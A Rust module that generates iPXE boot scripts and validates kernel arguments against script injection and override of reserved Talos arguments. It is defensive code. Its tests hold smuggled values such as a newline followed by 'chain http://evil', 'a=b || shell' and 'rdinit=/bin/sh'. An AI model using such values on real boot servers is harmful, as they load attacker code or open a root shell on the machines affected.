//! iPXE scripts and the kernel command lines in them.
//!
//! The scripts run in the oldest iPXE that we meet (Debian 12's, of 2019) and use only: dhcp, ifopen, set, isset, iseq, goto,
//! chain, kernel, initrd, imgfree, sleep, exit, boot, `||`, `&&`. iPXE expands `${…}` anywhere and knows no quoting, so whatever
//! reaches a script from outside is checked here. `exit 1` and not `exit`: UEFI firmware takes success for "booted" and stops
//! at its menu, while a failure goes on to the next boot device, the disk.

use std::fmt::Write as _;

/// Longest command line that an x86 kernel takes without its terminating NUL.
pub const COMMAND_LINE_BYTES_MAX: usize = 2047;

/// Arguments that only bootd sets; a trailing dot owns the whole family.
const OWNED: &[&str] = &[
    "talos.platform",
    "talos.config",
    "talos.config.",
    "talos.experimental.wipe",
    "talos.halt_if_installed",
    "talos.events.sink",
    "talos.logging.kernel",
    "siderolink.",
    "metal.",
    "initrd",
    "init",
    "rdinit",
];

/// A kernel argument that is refused. Names the argument, never its value.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ArgError {
    /// Empty, or only blanks.
    #[error("an empty kernel argument")]
    Empty,
    /// Something that iPXE or the kernel would read as more than one argument, or as a command.
    #[error("kernel argument `{name}` holds {what}, which a boot script cannot carry")]
    Unsafe {
        /// The part before `=`.
        name: String,
        /// What is wrong with it.
        what: &'static str,
    },
    /// One of ours.
    #[error("kernel argument `{name}` is set by bootd and cannot be overridden")]
    Owned {
        /// The part before `=`.
        name: String,
    },
    /// All of it together.
    #[error(
        "the kernel command line has {bytes} bytes; a kernel takes {COMMAND_LINE_BYTES_MAX}: remove some boot_args or extra kernel arguments of the image"
    )]
    TooLong {
        /// How long it is.
        bytes: usize,
    },
}

/// Whether an argument may be one that bootd owns.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// From a person or an image: owned arguments are refused.
    Foreign,
    /// Made here.
    Ours,
}

/// Checks one argument.
pub fn check_arg(arg: &str, origin: Origin) -> Result<(), ArgError> {
    if arg.trim().is_empty() {
        return Err(ArgError::Empty);
    }
    let name = arg.split('=').next().unwrap_or(arg);
    let refuse = |what| {
        Err(ArgError::Unsafe {
            name: name.chars().filter(|c| c.is_ascii_graphic()).collect(),
            what,
        })
    };
    if arg.contains(['\n', '\r']) {
        return refuse("a line break");
    }
    if arg.contains('\0') {
        return refuse("a NUL");
    }
    if arg.contains("${") {
        return refuse("`${`");
    }
    if arg.contains(|c: char| c.is_control() || !c.is_ascii()) {
        return refuse("a character that is not plain ASCII");
    }
    if arg
        .split(' ')
        .any(|word| word == "||" || word == "&&" || word.starts_with('#'))
    {
        return refuse("`||`, `&&` or a word that begins with `#`");
    }
    if origin == Origin::Foreign {
        // The kernel takes `-` and `_` for the same, and a quote may hide the name.
        let plain = name.trim_matches('"').replace('-', "_");
        let owned = |own: &&str| match own.strip_suffix('.') {
            Some(family) => plain.starts_with(own) || plain == family,
            None => plain == *own,
        };
        if OWNED.iter().any(owned) {
            return Err(ArgError::Owned { name: plain });
        }
        // A blank outside quotes would begin an argument that was not looked at.
        if arg.contains(' ') && !(arg.contains('"') && arg.ends_with('"')) {
            return refuse("a blank outside quotes");
        }
    }
    Ok(())
}

/// Checks foreign arguments, one by one.
pub fn check_args<S: AsRef<str>>(args: &[S]) -> Result<(), ArgError> {
    args.iter()
        .try_for_each(|arg| check_arg(arg.as_ref(), Origin::Foreign))
}

/// Joins checked arguments to a command line. The first of a name wins where programs read the first, so ours come first.
pub fn command_line(ours: &[String], foreign: &[String]) -> Result<String, ArgError> {
    for arg in ours {
        check_arg(arg, Origin::Ours)?;
    }
    check_args(foreign)?;
    let line = ours
        .iter()
        .chain(foreign)
        .map(String::as_str)
        .collect::<Vec<_>>()
        .join(" ");
    if line.len() > COMMAND_LINE_BYTES_MAX {
        return Err(ArgError::TooLong { bytes: line.len() });
    }
    Ok(line)
}

/// What a boot script loads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Boot<'a> {
    /// For people: machine, epoch, what.
    pub title: &'a str,
    /// URL of the kernel.
    pub kernel: &'a str,
    /// URL of the initial RAM disk; the last part of its path is the name that `initrd=` of the command line repeats (EFI).
    pub initrd: &'a str,
    /// From [`command_line`].
    pub command_line: &'a str,
}

/// Loads and boots; a failed step waits a little (no tight loops) and leaves to the next boot device.
pub fn boot(boot: &Boot<'_>) -> String {
    let mut script = head(boot.title);
    let _ = write!(
        script,
        "imgfree\nkernel {} {} || goto failed\ninitrd {} || goto failed\nboot || goto failed\n:failed\nimgfree\nsleep 5\nexit 1\n",
        boot.kernel, boot.command_line, boot.initrd
    );
    script
}

/// Leaves to the next boot device, the disk.
pub fn exit(why: &str) -> String {
    let mut script = head(why);
    script.push_str("exit 1\n");
    script
}

/// Asks again after a while; leaves to the disk if that fails.
pub fn ask_again(why: &str, url: &str, seconds: u32) -> String {
    let mut script = head(why);
    let _ = write!(script, "sleep {seconds}\nchain {url} || exit 1\n");
    script
}

/// The name that `initrd=` must repeat: the last part of the URL's path.
pub fn image_name(url: &str) -> &str {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    path.rsplit('/').next().unwrap_or(path)
}

fn head(title: &str) -> String {
    let title: String = title
        .chars()
        .map(|c| if c.is_control() || c == '$' { ' ' } else { c })
        .collect();
    format!("#!ipxe\n# {title}\n")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn check(arg: &str, want: &str) {
        let said = match check_arg(arg, Origin::Foreign) {
            Ok(()) => "good".to_owned(),
            Err(error) => error.to_string(),
        };
        assert_eq!(said, want, "{arg:?}");
    }

    #[test]
    fn arguments() {
        check("console=ttyS0,115200", "good");
        check("net.ifnames=0", "good");
        check("dyndbg=\"file a +p; file b +p\"", "good");
        check(" ", "an empty kernel argument");
        check(
            "a=b\nchain http://evil",
            "kernel argument `a` holds a line break, which a boot script cannot carry",
        );
        check(
            "a=${net0/mac}",
            "kernel argument `a` holds `${`, which a boot script cannot carry",
        );
        check(
            "a=\0",
            "kernel argument `a` holds a NUL, which a boot script cannot carry",
        );
        check(
            "a=b talos.config=http://evil",
            "kernel argument `a` holds a blank outside quotes, which a boot script cannot carry",
        );
        check(
            "a=b || shell",
            "kernel argument `a` holds `||`, `&&` or a word that begins with `#`, which a boot script cannot carry",
        );
        for owned in [
            "talos.config=http://evil",
            "talos.config.inline=x",
            "talos.experimental.wipe=system",
            "talos.halt-if-installed=0",
            "siderolink.api=grpc://x",
            "metal.token=x",
            "rdinit=/bin/sh",
            "initrd=x",
            "\"talos.config\"=x",
        ] {
            assert!(
                matches!(
                    check_arg(owned, Origin::Foreign),
                    Err(ArgError::Owned { .. })
                ),
                "{owned}"
            );
            assert_eq!(check_arg(owned, Origin::Ours), Ok(()), "{owned}");
        }
    }

    #[test]
    fn too_long() {
        let long = vec![format!("a={}", "x".repeat(COMMAND_LINE_BYTES_MAX))];
        assert_eq!(
            command_line(&[], &long),
            Err(ArgError::TooLong { bytes: 2049 })
        );
    }

    #[test]
    fn scripts() {
        insta::assert_snapshot!(boot(&Boot {
            title: "r1-u1, epoch 7: agent",
            kernel: "http://10.0.0.1:8081/asset/aa/vmlinuz",
            initrd: "http://10.0.0.1:8081/asset/bb/agent.img",
            command_line: "initrd=agent.img rdinit=/init",
        }), @r"
        #!ipxe
        # r1-u1, epoch 7: agent
        imgfree
        kernel http://10.0.0.1:8081/asset/aa/vmlinuz initrd=agent.img rdinit=/init || goto failed
        initrd http://10.0.0.1:8081/asset/bb/agent.img || goto failed
        boot || goto failed
        :failed
        imgfree
        sleep 5
        exit 1
        ");
        insta::assert_snapshot!(exit("r1-u1: own\ndisk ${x}"), @r"
        #!ipxe
        # r1-u1: own disk  {x}
        exit 1
        ");
        insta::assert_snapshot!(ask_again("image is loading", "http://10.0.0.1/boot/script?try=2", 5), @r"
        #!ipxe
        # image is loading
        sleep 5
        chain http://10.0.0.1/boot/script?try=2 || exit 1
        ");
        assert_eq!(image_name("http://h/asset/bb/agent.img?x=/y"), "agent.img");
    }

    proptest! {
        /// Whatever passes stays one line with one command.
        #[test]
        fn no_argument_breaks_out(arg in "\\PC*|[ -~\\n\\r\\x00${|&#]{0,40}") {
            if let Ok(line) = command_line(&[], std::slice::from_ref(&arg)) {
                let script = boot(&Boot { title: "t", kernel: "http://k", initrd: "http://i", command_line: &line });
                prop_assert_eq!(script.lines().count(), 10);
                let expands = script.contains("${");
                prop_assert!(!expands);
            }
        }
    }
}
